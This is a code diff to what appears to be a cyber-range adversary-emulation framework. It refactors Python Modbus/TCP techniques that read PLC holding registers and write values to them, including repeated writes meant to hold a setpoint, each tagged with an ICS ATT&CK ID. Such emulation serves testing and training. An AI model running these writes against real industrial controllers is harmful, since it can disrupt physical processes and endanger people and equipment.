@@ -13,9 +13,24 @@ from __future__ import annotations
 import struct
 import time
 
-from cyberrange.attack.spec import Param, Technique
+from cyberrange.attack.spec import Param, technique
 from cyberrange.attack.techniques.c2 import parse_service, send_segments
-from cyberrange.attack.techniques.common import Conn, Result
+from cyberrange.attack.techniques.common import Result
+from cyberrange.attack.techniques.tcp import Conn
+
+CONNECT_TIMEOUT = 2.5            # seconds to wait for the PLC to accept a connection
+IO_TIMEOUT = 3.0                 # seconds to wait for each answer
+
+_CONN = {
+    "port": Param(int, 502, "Modbus/TCP port for targets given without :port"),
+    "unit": Param(int, 1, "Modbus unit identifier"),
+    "address": Param(int, 0, "first holding register"),
+}
+_WRITE = {
+    **_CONN,
+    "value": Param(int, 0, "value for a single-register write (when `values` is empty)"),
+    "values": Param(list, [], "values written from `address` on (function 16 if more than one)"),
+}
 
 
 class ModbusError(Exception):
@@ -23,8 +38,8 @@ class ModbusError(Exception):
 
 
 class ModbusClient:
-    def __init__(self, ip: str, port: int, unit: int = 1, connect_timeout: float = 2.5,
-                 io_timeout: float = 3.0):
+    def __init__(self, ip: str, port: int, unit: int, connect_timeout: float = CONNECT_TIMEOUT,
+                 io_timeout: float = IO_TIMEOUT):
         self.conn = Conn(ip, port, connect_timeout, io_timeout)
         self.unit, self.tid = unit, 0
         self.requests = 0
@@ -78,8 +93,7 @@ class ModbusClient:
 
 
 def _open(ip, port, params, res) -> ModbusClient | None:
-    cl = ModbusClient(ip, port, int(params.get("unit", 1)), float(params.get("connect_timeout", 2.5)),
-                      float(params.get("io_timeout", 3.0)))
+    cl = ModbusClient(ip, port, int(params["unit"]))
     if not cl.conn.established:
         res.log.append(f"{ip}:{port}: {cl.status}")
         res.flows.append(cl.close())
@@ -98,11 +112,14 @@ def _finish(res: Result, statuses: list[str], good: bool) -> Result:
     return res
 
 
+@technique("T0861", "Point & Tag Identification (Modbus read holding registers)", "collection",
+           {**_CONN, "count": Param(int, 10, "holding registers to read")},
+           produces=("registers", "plcs"), target_kind="service")
 def modbus_read(targets: list[str], params: dict) -> Result:
     res = Result(start=time.time())
-    addr, count = int(params.get("address", 0)), int(params.get("count", 10))
+    addr, count = int(params["address"]), int(params["count"])
     registers, plcs, statuses = {}, [], []
-    for ip, port in dict.fromkeys(parse_service(t, params.get("port", 502)) for t in targets):
+    for ip, port in dict.fromkeys(parse_service(t, params["port"]) for t in targets):
         cl = _open(ip, port, params, res)
         if cl is None:
             statuses.append("unreachable")
@@ -121,21 +138,30 @@ def modbus_read(targets: list[str], params: dict) -> Result:
 
 
 def _values(params: dict) -> list[int]:
-    vals = params.get("values")
+    vals = params["values"]
     if vals in (None, [], ""):
-        vals = [params.get("value", 0)]
+        vals = [params["value"]]
     if not isinstance(vals, list):
         vals = [vals]
     return [int(v) for v in vals]
 
 
+@technique("T0855", "Unauthorized Command Message (Modbus register write)",
+           "impair-process-control",
+           {**_WRITE, "repeat": Param(int, 1, "times the write is sent"),
+            "interval": Param((int, float), 1.0, "seconds between repeated writes")},
+           produces=("registers", "written", "plcs"), target_kind="service")
+@technique("T0831", "Manipulation of Control (hold a setpoint by repeated Modbus writes)", "impact",
+           {**_WRITE, "repeat": Param(int, 5, "times the write is sent"),
+            "interval": Param((int, float), 1.0, "seconds between repeated writes")},
+           produces=("registers", "written", "plcs"), target_kind="service")
 def modbus_write(targets: list[str], params: dict) -> Result:
     res = Result(start=time.time())
-    addr, values = int(params.get("address", 0)), _values(params)
-    repeat = max(1, int(params.get("repeat", 1)))
-    interval = float(params.get("interval", 1.0))
+    addr, values = int(params["address"]), _values(params)
+    repeat = max(1, int(params["repeat"]))
+    interval = float(params["interval"])
     before, after, written, plcs, statuses = {}, {}, {}, [], []
-    for ip, port in dict.fromkeys(parse_service(t, params.get("port", 502)) for t in targets):
+    for ip, port in dict.fromkeys(parse_service(t, params["port"]) for t in targets):
         key = f"{ip}:{port}"
         cl = _open(ip, port, params, res)
         if cl is None:
@@ -162,40 +188,3 @@ def modbus_write(targets: list[str], params: dict) -> Result:
     res.log.append(f"wrote {values} at {addr} x{repeat}: before {before}, after {after}")
     res.facts = {"registers": after, "before": before, "written": written, "plcs": plcs}
     return _finish(res, statuses, bool(written))
-
-
-_CONN = {
-    "port": Param(int, 502, "Modbus/TCP port for targets given without :port"),
-    "unit": Param(int, 1, "Modbus unit identifier"),
-    "address": Param(int, 0, "first holding register"),
-}
-_WRITE = {
-    **_CONN,
-    "value": Param(int, 0, "value for a single-register write (when `values` is empty)"),
-    "values": Param(list, [], "values written from `address` on (function 16 if more than one)"),
-}
-
-SPECS = [
-    Technique(
-        "T0861", "Point & Tag Identification (Modbus read holding registers)", "collection",
-        {**_CONN, "count": Param(int, 10, "holding registers to read")},
-        produces=("registers", "plcs"),
-        target_kind="service",
-    ),
-    Technique(
-        "T0855", "Unauthorized Command Message (Modbus register write)", "impair-process-control",
-        {**_WRITE, "repeat": Param(int, 1, "times the write is sent"),
-         "interval": Param((int, float), 1.0, "seconds between repeated writes")},
-        produces=("registers", "written", "plcs"),
-        target_kind="service",
-    ),
-    Technique(
-        "T0831", "Manipulation of Control (hold a setpoint by repeated Modbus writes)", "impact",
-        {**_WRITE, "repeat": Param(int, 5, "times the write is sent"),
-         "interval": Param((int, float), 1.0, "seconds between repeated writes")},
-        produces=("registers", "written", "plcs"),
-        target_kind="service",
-    ),
-]
-
-FUNCS = {"T0861": modbus_read, "T0855": modbus_write, "T0831": modbus_write}
